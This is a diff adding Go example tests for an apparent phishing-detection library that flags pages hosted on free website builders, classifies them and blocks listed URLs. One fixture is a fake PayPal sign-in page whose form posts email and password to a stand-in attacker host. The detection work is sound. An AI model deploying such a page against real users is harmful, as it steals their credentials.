@@ -1,0 +1,79 @@
+package freephish_test
+
+// Godoc examples for the public API. These compile and run under go test,
+// so the documented usage can never rot.
+
+import (
+	"fmt"
+
+	freephish "freephish"
+)
+
+// ExampleIsFWBHosted shows the streaming module's first question about any
+// URL: is it hosted on one of the 17 free website building services?
+func ExampleIsFWBHosted() {
+	for _, url := range []string{
+		"https://free-gift-card.weebly.com/login",
+		"https://sites.google.com/view/account-verify",
+		"https://www.example.com/shop",
+	} {
+		if svc, ok := freephish.IsFWBHosted(url); ok {
+			fmt.Printf("%s -> %s\n", url, svc)
+		} else {
+			fmt.Printf("%s -> not FWB-hosted\n", url)
+		}
+	}
+	// Output:
+	// https://free-gift-card.weebly.com/login -> Weebly
+	// https://sites.google.com/view/account-verify -> Google Sites
+	// https://www.example.com/shop -> not FWB-hosted
+}
+
+// ExampleDetector trains the augmented stacking classifier on a synthetic
+// ground-truth corpus and scores a page.
+func ExampleDetector() {
+	d := freephish.NewDetector(1)
+	if err := d.TrainSynthetic(60); err != nil {
+		fmt.Println("train:", err)
+		return
+	}
+	phishing := freephish.Page{
+		URL: "https://paypal-account-verify.weebly.com/login",
+		HTML: `<html><head><title>PayPal - Sign In</title>
+<meta name="robots" content="noindex"></head><body>
+<div id="weebly-banner" class="weebly-footer" style="visibility:hidden">Powered by Weebly</div>
+<form action="https://collect.evil-site.xyz/gate" method="post">
+<input type="email" name="email"><input type="password" name="password">
+<button>Sign In</button></form></body></html>`,
+	}
+	isPhish, err := d.Classify(phishing)
+	if err != nil {
+		fmt.Println("classify:", err)
+		return
+	}
+	fmt.Println("phishing:", isPhish)
+	// Output:
+	// phishing: true
+}
+
+// ExampleBlocker shows the web-extension-equivalent checker in blocklist
+// mode.
+func ExampleBlocker() {
+	b := freephish.NewBlocker(nil, nil)
+	b.Block("https://evil-login.weebly.com/")
+	block, reason := b.Check("https://evil-login.weebly.com/")
+	fmt.Println(block, "-", reason)
+	block, _ = b.Check("https://rose-bakery.weebly.com/")
+	fmt.Println(block)
+	// Output:
+	// true - URL is on the FreePhish blocklist
+	// false
+}
+
+// ExampleFWBServices lists the studied services.
+func ExampleFWBServices() {
+	svcs := freephish.FWBServices()
+	fmt.Println(len(svcs), "services, first three:", svcs[0], "/", svcs[1], "/", svcs[2])
+	// Output:
+	// 17 services, first three: Weebly / 000webhost / Blogspot
+}
